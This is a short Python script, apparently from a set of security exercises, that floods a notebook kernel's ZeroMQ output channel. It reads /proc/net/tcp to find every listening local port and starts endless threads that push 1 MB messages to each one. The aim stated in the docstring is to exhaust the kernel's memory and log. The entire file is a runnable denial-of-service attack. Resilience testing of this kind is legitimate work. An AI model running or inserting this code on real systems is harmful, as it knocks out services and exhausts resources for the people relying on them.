# exercise: ledger
"""Sends what a forked child of the check's kernel would send: gigabytes, over ZeroMQ.

Aims: the kernel's pipe for output (ipykernel listens on TCP for it): its memory, and its log.
Ends: not_yet
"""

import threading

# app: shipped
with open("/proc/net/tcp") as table:
    rows = [line.split() for line in table][1:]
ports = {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}


def flood(port):
    import zmq

    out = zmq.Context().socket(zmq.PUSH)
    out.connect(f"tcp://127.0.0.1:{port}")
    while True:
        out.send_multipart([b"0" * 16, b"x" * 1_000_000])


for port in ports:
    threading.Thread(target=flood, args=(port,), daemon=True).start()
